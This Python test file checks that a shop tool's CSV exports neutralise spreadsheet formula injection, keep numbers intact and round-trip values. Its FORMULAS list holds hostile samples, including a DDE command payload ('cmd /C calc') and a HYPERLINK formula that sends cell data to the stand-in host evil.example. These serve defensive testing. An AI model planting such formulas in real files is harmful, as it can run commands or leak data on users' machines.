"""Files for spreadsheets: nothing in them runs, numbers stay numbers, and what goes out comes back in the same."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.flow.stage import Scene
from tests.hostile.browsers import text
from tests.web.house import Web
from tranter.connectors.ebay.simulator import Purchase, Want
from tranter.connectors.ebay.simulator.orders import Address, Buyer
from tranter.ledger import mappings
from tranter.routing.csv_rows import read_rows, write_rows
from tranter.routing.mapping_table import read_alias_table, write_alias_table
from tranter.testing.faultmark import fault

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"x")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=",
    "-",
    "+",
    "@",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=1\u00a0+1",
    "+49 151 23456789",
    "--5",
    "-1e5x",
    "=-5",
]
NUMBERS = ["-5", "+5", "-5.25", "5", "1,234.50", "-1.234,50", "0", "-0"]
RUNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")


def runs(cell: str) -> bool:
    return cell.lstrip(" \u00a0\n").startswith(RUNS) and cell not in NUMBERS


@fault("SEC-10")
@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_goes_out_as_text_and_comes_back_as_it_was(cell: str) -> None:
    out = write_rows(["a", "b"], [[cell, "x"]])

    [_, [shown, _]] = csv.reader(io.StringIO(out))
    assert not runs(shown)
    assert read_rows(out, ["a", "b"])[0].cells["a"] == cell
    assert out.count('"') >= 8


@fault("SEC-10")
@pytest.mark.parametrize("cell", NUMBERS)
def test_a_number_stays_a_number(cell: str) -> None:
    [_, [shown, _]] = csv.reader(io.StringIO(write_rows(["a", "b"], [[cell, "x"]])))

    assert shown == cell


@fault("SEC-10")
@given(
    st.text(st.characters(min_codepoint=33, max_codepoint=0xFFFF, exclude_categories=["Cs", "Cc"]), min_size=1).filter(
        str.strip  # a cell of blanks is an empty one
    )
)
def test_whatever_is_written_is_read_back(cell: str) -> None:
    assert read_rows(write_rows(["a", "b"], [[cell, "x"]]), ["a", "b"])[0].cells["a"] == cell


@fault("SEC-10")
def test_a_table_of_aliases_survives_the_way_out_and_back() -> None:
    skus = [cell.strip() for cell in FORMULAS if cell.strip().isprintable()]
    out = write_alias_table([("", sku, f"={sku}") for sku in dict.fromkeys(skus)])

    table = read_alias_table(out)
    assert table.bad == ()
    assert [(row.word, row.becomes) for row in table.rows] == [(sku, f"={sku}") for sku in dict.fromkeys(skus)]


def bought(scene: Scene) -> None:
    for number, cell in enumerate(FORMULAS[:12]):
        address = Address("1 Lane", "Portland", "US", "", "OR", "97205")
        buyer = Buyer(username=f"u{number}", user_id=f"i{number}", name=cell, address=address, email="a@b.example")
        scene.ebay.buy(Purchase((Want("LAMP", 1, as_sku=cell if number % 2 else None),), buyer=buyer))
    scene.pass_time(minutes=20)


@fault("SEC-10")
@pytest.mark.parametrize(
    "path",
    [
        "/m/default/orders/export",
        "/all/orders/export",
        "/m/default/connections/shop/stock-plan/csv",
        "/m/default/stock/mappings/alias/export",
    ],
)
def test_no_cell_of_a_file_of_ours_runs(web: Web, path: str) -> None:
    bought(web.scene)
    mappings.set_aliases(web.scene.book, [("", "=1+1", "LAMP"), ("", "@SUM(1)", "BOOK")], web.scene.clock.now())

    answer = web.as_owner().get(path)

    assert answer.status_code == 200
    assert "attachment" in answer.headers["Content-Disposition"]
    table = list(csv.reader(io.StringIO(text(answer).removeprefix("\ufeff"))))
    assert len(table) > 2
    assert [cell for row in table for cell in row if runs(cell)] == []
